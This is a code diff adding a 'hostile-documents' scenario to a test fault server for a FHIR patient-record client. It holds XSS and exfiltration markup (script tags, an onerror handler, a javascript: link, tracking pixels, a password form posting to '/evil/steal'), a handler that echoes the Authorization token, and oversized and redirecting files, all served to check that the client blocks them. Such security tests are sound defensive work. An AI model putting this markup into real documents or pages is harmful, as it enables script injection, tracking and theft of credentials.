@@ -42,6 +42,7 @@ export const SCENARIOS = /** @type {const} */ ([
   'fail-page-2',
   'outage',
   'latency',
+  'hostile-documents',
 ]);
 
 /** Clinical resource types served per patient, with the element that points at the patient. */
@@ -447,6 +448,204 @@ function buildData(counts) {
 }
 
 // ---------------------------------------------------------------------------------------------
+// Documents: the `hostile-documents` scenario (<care-document-list>). Every patient has letters
+// that each try one thing; every address a letter loads from or links to is on the other origin,
+// so its request log shows whether anything was fetched from there.
+
+/** @param {string} text */
+const base64 = (text) => Buffer.from(text, 'utf8').toString('base64');
+
+/** @param {string} line a one-page PDF saying `line` */
+function pdfOf(line) {
+  const stream = `BT /F1 14 Tf 20 60 Td (${line}) Tj ET`;
+  return [
+    '%PDF-1.4',
+    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
+    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
+    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 120]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj',
+    `4 0 obj<</Length ${stream.length}>>stream`,
+    stream,
+    'endstream endobj',
+    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj',
+    'trailer<</Root 1 0 R>>',
+    '%%EOF',
+  ].join('\n');
+}
+
+/**
+ * Markup written to attack the page: a script, an event handler, a `javascript:` link, an image,
+ * a stylesheet, a CSS `url()`, a frame and a form, all pointing at `other`.
+ * @param {string} codename @param {string} other
+ */
+export function hostileMarkup(codename, other) {
+  return `<h1>${codename} hostile letter</h1>
+<p>${codename} visible text stays.</p>
+<script>window.__documentPwned = 'script'</script>
+<img src="x" onerror="window.__documentPwned = 'onerror'" alt="broken">
+<a href="javascript:window.__documentPwned = 'link'">Click for results</a>
+<img src="${other}/evil/pixel.png" alt="Tracking pixel">
+<img srcset="${other}/evil/srcset.png 2x" alt="Srcset">
+<p style="background-image: url(${other}/evil/css.png)">Styled paragraph</p>
+<link rel="stylesheet" href="${other}/evil/sheet.css">
+<style>@import url(${other}/evil/import.css);</style>
+<iframe src="${other}/evil/frame.html"></iframe>
+<form action="${other}/evil/steal"><input name="password"><button>Sign in again</button></form>`;
+}
+
+/** The biggest document: 20 MB of text, streamed (a reader that stops early stops it). */
+export const HUGE_DOCUMENT_BYTES = 20 * 1024 * 1024;
+
+/**
+ * One patient's documents in `hostile-documents`, and the Binaries they reference.
+ * @param {PatientSpec} p @param {string} home this origin @param {string} other the other origin
+ */
+export function hostileDocuments(p, home, other) {
+  const subject = { reference: `Patient/${p.id}` };
+  const trust = { reference: `Organization/${TRUST.id}`, display: TRUST.name };
+  const files = `${home}/hostile-documents/files`;
+  /** @param {string} id @param {string} description @param {number} day @param {Json} attachment */
+  const reference = (id, description, day, attachment, custodian = trust) => ({
+    resourceType: 'DocumentReference',
+    id: `doc-${p.id}-${id}`,
+    status: 'current',
+    subject,
+    date: isoDate(REFERENCE_DAY - (day + p.dayOffset) * DAY),
+    author: [trust],
+    custodian,
+    description: `${p.codename} ${description}`,
+    content: [{ attachment }],
+  });
+  const references = [
+    reference('hostile-html', 'hostile HTML letter', 1, {
+      contentType: 'text/html',
+      data: base64(hostileMarkup(p.codename, other)),
+    }),
+    reference('binary-pdf', 'X-ray report (PDF)', 2, {
+      contentType: 'application/pdf',
+      url: `Binary/pdf-${p.id}`,
+    }),
+    reference('file-echo', 'clinic letter that echoes the token', 3, {
+      contentType: 'text/plain',
+      url: `${files}/echo-${p.id}.txt`,
+    }),
+    reference('elsewhere', 'letter on another site', 4, {
+      contentType: 'application/pdf',
+      url: `${other}/hostile-documents/files/elsewhere.pdf`,
+    }),
+    reference('redirect', 'letter that redirects', 5, {
+      contentType: 'text/plain',
+      url: `${files}/redirect`,
+    }),
+    reference('huge', 'oversized letter', 6, { contentType: 'text/plain', url: `${files}/huge.txt` }),
+    reference(
+      'word',
+      'referral (Word)',
+      7,
+      { contentType: 'application/msword', title: 'Referral', data: base64('Not really a Word file') },
+      { reference: `Organization/${p.practice}`, display: p.practiceName },
+    ),
+  ];
+  const compositions = [
+    {
+      resourceType: 'Composition',
+      id: `comp-${p.id}-hostile`,
+      status: 'final',
+      type: { text: 'Letter' },
+      subject,
+      date: isoDate(REFERENCE_DAY - p.dayOffset * DAY),
+      author: [trust],
+      custodian: trust,
+      title: `${p.codename} hostile narrative`,
+      section: [
+        {
+          title: 'Body',
+          text: {
+            status: 'generated',
+            div: `<div xmlns="http://www.w3.org/1999/xhtml">${hostileMarkup(p.codename, other)}</div>`,
+          },
+        },
+      ],
+    },
+  ];
+  const binaries = new Map([
+    [
+      `pdf-${p.id}`,
+      {
+        resourceType: 'Binary',
+        id: `pdf-${p.id}`,
+        contentType: 'application/pdf',
+        data: base64(pdfOf(`${p.codename} chest X-ray: no consolidation`)),
+      },
+    ],
+  ]);
+  return { references, compositions, binaries };
+}
+
+/**
+ * @typedef {object} DocumentAnswer
+ * @property {number} status
+ * @property {Record<string, string>} [headers]
+ * @property {unknown} [json] a FHIR answer
+ * @property {string} [text] a document's body
+ * @property {number} [stream] bytes of text to stream
+ */
+
+/**
+ * The answer to a document request of `hostile-documents` (a DocumentReference or Composition
+ * search, a Binary read, a file), or `undefined` for anything else.
+ * @param {URL} url @param {string} home @param {string} other @param {IncomingMessage} req
+ * @returns {DocumentAnswer | undefined}
+ */
+function documentAnswer(url, home, other, req) {
+  const file = /^\/hostile-documents\/files\/(.+)$/.exec(url.pathname)?.[1];
+  if (file !== undefined) {
+    if (file === 'redirect')
+      return { status: 302, headers: { Location: `${other}/hostile-documents/files/away.txt` } };
+    if (file === 'huge.txt') return { status: 200, stream: HUGE_DOCUMENT_BYTES };
+    const echo = /^echo-(.+)\.txt$/.exec(file);
+    if (echo) {
+      return {
+        status: 200,
+        text: `Clinic letter for ${echo[1]}.\nSent with: ${req.headers.authorization ?? '(no authorization)'}\n`,
+      };
+    }
+    return { status: 404, text: 'No such document' };
+  }
+  const match = /^\/hostile-documents\/fhir\/(DocumentReference|Composition|Binary)(?:\/([^/]+))?$/.exec(
+    url.pathname,
+  );
+  if (!match) return undefined;
+  const [, type, id] = match;
+  const asked = [...url.searchParams.getAll('patient'), ...url.searchParams.getAll('subject')].map(
+    patientIdOf,
+  );
+  const patients = PATIENTS.filter((p) => (type === 'Binary' ? true : asked.includes(p.id)));
+  const documents = patients.map((p) => hostileDocuments(p, home, other));
+  if (type === 'Binary') {
+    const binary = documents.map((d) => d.binaries.get(id ?? '')).find(Boolean);
+    return binary
+      ? { status: 200, json: binary }
+      : { status: 404, json: outcome('error', 'not-found', `Binary/${id}`) };
+  }
+  const base = `${home}/hostile-documents/fhir`;
+  const resources = documents.flatMap((d) => (type === 'Composition' ? d.compositions : d.references));
+  return {
+    status: 200,
+    json: {
+      resourceType: 'Bundle',
+      type: 'searchset',
+      total: resources.length,
+      link: [{ relation: 'self', url: `${home}${url.pathname}${url.search}` }],
+      entry: resources.map((resource) => ({
+        fullUrl: `${base}/${type}/${resource.id}`,
+        resource,
+        search: { mode: 'match' },
+      })),
+    },
+  };
+}
+
+// ---------------------------------------------------------------------------------------------
 // Helpers
 
 /** A small seeded RNG (mulberry32), so latency is the same sequence after each reset. */
@@ -742,6 +941,8 @@ export async function startFaultServer({ host = '127.0.0.1', portA = 0, portB = 
     state.logs[index].push(entry);
 
     if (method === 'OPTIONS') return preflight(req, res, cors);
+    const documents = documentAnswer(url, origins[index], origins[1 - index], req);
+    if (documents) return writeDocument(res, documents, cors);
     if (!match || !(/** @type {readonly string[]} */ (SCENARIOS).includes(scenario))) {
       return send(
         404,
@@ -1050,6 +1251,36 @@ export async function startFaultServer({ host = '127.0.0.1', portA = 0, portB = 
         );
       })()),
   };
+}
+
+/**
+ * Writes a `documentAnswer`: FHIR JSON, a text document, or a long text streamed in 64 KB chunks
+ * until it is all sent or the client stops reading.
+ * @param {ServerResponse} res @param {DocumentAnswer} answer @param {Record<string, string>} cors
+ */
+function writeDocument(res, answer, cors) {
+  const type = answer.json !== undefined ? FHIR_JSON : 'text/plain; charset=utf-8';
+  res.writeHead(answer.status, {
+    ...cors,
+    'Content-Type': type,
+    'Cache-Control': 'no-store',
+    ...answer.headers,
+  });
+  if (answer.stream === undefined) {
+    res.end(answer.json !== undefined ? JSON.stringify(answer.json) : answer.text);
+    return;
+  }
+  const chunk = Buffer.alloc(64 * 1024, 'Lorem ipsum dolor sit amet. ');
+  let left = answer.stream;
+  const pump = () => {
+    while (left > 0 && !res.destroyed) {
+      const part = chunk.subarray(0, Math.min(chunk.length, left));
+      left -= part.length;
+      if (!res.write(part)) return void res.once('drain', pump);
+    }
+    if (!res.destroyed) res.end();
+  };
+  pump();
 }
 
 /** @param {IncomingMessage} req @param {ServerResponse} res @param {Record<string, string>} cors */
